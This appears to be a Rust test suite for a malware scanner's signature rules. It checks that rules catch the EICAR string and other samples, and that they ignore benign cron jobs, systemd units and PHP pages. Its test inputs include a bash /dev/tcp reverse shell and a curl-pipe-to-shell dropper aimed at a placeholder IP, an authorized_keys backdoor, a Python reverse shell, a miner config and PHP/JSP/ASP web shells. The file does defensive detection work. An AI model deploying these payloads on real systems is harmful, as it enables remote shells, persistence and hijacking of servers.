//! The content in `definitions/`: each rule finds what it is for, and not what merely looks alike.

use std::collections::BTreeSet;
use std::sync::OnceLock;

use crate::setup;
use crate::setup::{gzip, open, own_content, scan, zip};
use definitions::{BuildOptions, Source, load};
use model::Maturity;
use scan::Definitions;

fn content() -> Vec<Source> {
    load(&[own_content()]).unwrap()
}

fn own() -> &'static Definitions {
    static ONCE: OnceLock<Definitions> = OnceLock::new();
    ONCE.get_or_init(|| open(&content()))
}

fn found(bytes: &[u8]) -> BTreeSet<String> {
    scan(own(), bytes)
        .matches
        .into_iter()
        .map(|found| found.rule)
        .collect()
}

fn finds(rule: &str, bytes: &[u8]) {
    let found = found(bytes);
    assert!(found.contains(rule), "{rule} not in {found:?}");
}

/// Never whole in a source file.
fn eicar() -> Vec<u8> {
    [
        r"X5O!P%@AP[4\PZX54(P^)7CC)7}$",
        "EICAR-STANDARD-ANTIVIRUS",
        "-TEST-FILE!$H+H*",
    ]
    .concat()
    .into_bytes()
}

#[test]
fn every_line_and_rule_can_be_used() {
    let report = definitions::lint(&BuildOptions::default(), &content(), &mut |_| {}).unwrap();
    assert!(report.unusable.is_empty(), "{:?}", report.unusable);
}

#[test]
fn eicar_is_found_alone_and_inside_containers() {
    let name = "Garrison.Test.EICAR";
    finds(name, &eicar());
    finds(name, &[eicar(), b" \t\r\n\x1a".to_vec()].concat());
    finds(name, &[eicar(), vec![b' '; 60]].concat());
    let packed = zip(&[("eicar.com", &eicar()), ("e.gz", &gzip(&eicar()))]);
    let members: Vec<String> = setup::matched(&scan(own(), &packed));
    assert_eq!(members, ["eicar.com", "e.gz > content"]);
}

#[test]
fn what_only_contains_eicar_is_not_it() {
    for other in [
        [b" ".to_vec(), eicar()].concat(),
        [eicar(), b"x".to_vec()].concat(),
        [eicar(), vec![b' '; 61]].concat(),
        eicar()[..67].to_vec(),
    ] {
        assert!(
            found(&other).is_empty(),
            "{}",
            String::from_utf8_lossy(&other)
        );
    }
}

#[test]
fn the_test_files_are_found() {
    finds(
        "Garrison.Test.Md5",
        b"Garrison test file for MD5 lists. It is harmless.\n",
    );
    finds(
        "Garrison.Test.Sha256",
        b"Garrison test file for SHA-256 lists. It is harmless.\n",
    );
    finds(
        "Garrison.Test.Sha1",
        b"Garrison test file for SHA-1 lists of any size. It is harmless.\n",
    );
    let mark = ["GARRISON-HARMLESS", "-TEST-FILE-", "0123456789012345\n"].concat();
    finds("Garrison.Test.File", mark.as_bytes());
}

#[test]
fn commands_hidden_in_cron_tables_and_units_are_found() {
    let shell = ["bash -i >& ", "/dev/tcp/", "192.0.2.7/4444 0>&1"].concat();
    let fetched = ["curl -fsSL http://192.0.2.7/x.sh ", "| sh"].concat();
    finds(
        "Garrison.Linux.ReverseShell.Cron",
        format!("# m h dom mon dow\n*/5 * * * * root {shell}\n").as_bytes(),
    );
    finds(
        "Garrison.Linux.Dropper.Cron",
        format!("@reboot {fetched}\n").as_bytes(),
    );
    let unit = |command: &str| {
        format!("[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c '{command}'\n")
    };
    finds("Garrison.Linux.ReverseShell.Unit", unit(&shell).as_bytes());
    finds("Garrison.Linux.Dropper.Unit", unit(&fetched).as_bytes());
    let key = format!("command=\"{shell}\" ssh-ed25519 AAAAC3Nz you\n");
    finds("Garrison.Linux.AuthorizedKeys.Backdoor", key.as_bytes());
    let python = [
        "s.connect((\"192.0.2.7\",4444));os.dup2(s.fileno(),0);",
        "os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])",
    ];
    finds(
        "Garrison.Linux.ReverseShell.Python",
        python.concat().as_bytes(),
    );
}

#[test]
fn honest_cron_tables_units_and_keys_are_not_found() {
    for honest in [
        "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        "0 3 * * * backup curl -fsS https://hc.example.org/ping/1 > /dev/null\n",
        "[Service]\nExecStart=/usr/sbin/sshd -D\n",
        "command=\"/usr/bin/rrsync /srv\" ssh-ed25519 AAAAC3Nz backup\n",
        "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n",
    ] {
        assert!(found(honest.as_bytes()).is_empty(), "{honest}");
    }
}

#[test]
fn loader_hooks_and_miners_are_found() {
    finds("Garrison.Linux.Preload.Hook", b"/dev/shm/.x/libsystem.so\n");
    finds("Garrison.Linux.Preload.Hook", b"/usr/lib/.cache/a.so.1\n");
    let wallet = "4".to_owned() + &"A".repeat(94);
    let miner = [
        "{ \"autosave\": true, \"pools\": [ { \"algo\": null, \"coin\": \"monero\", ",
        "\"url\": \"pool.example.org:3333\", \"user\": \"",
        &wallet,
        "\" } ] }",
    ];
    finds(
        "Garrison.Linux.Miner.Configuration",
        miner.concat().as_bytes(),
    );
}

#[test]
fn pages_that_run_what_a_visitor_sends_are_found() {
    let php = |code: &str| ["<?", "php ", code, " ?>"].concat();
    for code in [
        ["@ev", "al($_POST['x']);"].concat(),
        ["echo sys", "tem( $_GET[\"c\"] );"].concat(),
        [" ass", "ert(base64_decode(@$_REQUEST['q']));"].concat(),
    ] {
        finds("Garrison.Web.Shell.PhpInput", php(&code).as_bytes());
    }
    let callback = ["$_GET['f'](", "$_POST['a']);"].concat();
    finds("Garrison.Web.Shell.PhpCallback", php(&callback).as_bytes());
    let image = [
        b"GIF89a".to_vec(),
        php(&["ev", "al($_POST['x']);"].concat()).into_bytes(),
    ]
    .concat();
    finds("Garrison.Web.Shell.PhpInImage", &image);
    let jsp = [
        "<% Runtime.getRuntime().exec(",
        "request.getParameter(\"c\")); %>",
    ]
    .concat();
    finds("Garrison.Web.Shell.Jsp", jsp.as_bytes());
    let asp = ["<%ev", "al(Request(\"x\"))%>"].concat();
    finds("Garrison.Web.Shell.Aspx", asp.as_bytes());
}

#[test]
fn honest_pages_are_not_found() {
    for honest in [
        "<?php echo htmlspecialchars($_GET['q']); $this->eval($_POST['x']); ?>",
        "<?php $model->system($_GET['c']); retrieval($_GET['c']); ?>",
        "<?php if (isset($_POST['x'])) { shell_exec('uptime'); } ?>",
        "<%= request.getParameter(\"c\") %>",
    ] {
        assert!(found(honest.as_bytes()).is_empty(), "{honest}");
    }
}

#[test]
fn the_sources_themselves_are_clean() {
    for source in content() {
        let verdict = scan(own(), &source.bytes);
        let detections: Vec<&str> = verdict
            .detections()
            .map(|found| found.rule.as_str())
            .collect();
        assert!(detections.is_empty(), "{}: {detections:?}", source.name);
    }
}

#[test]
fn what_may_hit_honest_files_only_observes() {
    let shell = ["bash -i >& ", "/dev/tcp/", "192.0.2.7/4444 0>&1"].concat();
    let manual = format!("An attacker may type:\n{shell}\n");
    let verdict = scan(own(), manual.as_bytes());
    assert_eq!(verdict.matches.len(), 1, "{verdict:?}");
    assert_eq!(verdict.matches[0].maturity, Maturity::Observing);
    assert_eq!(verdict.detections().count(), 0);
}
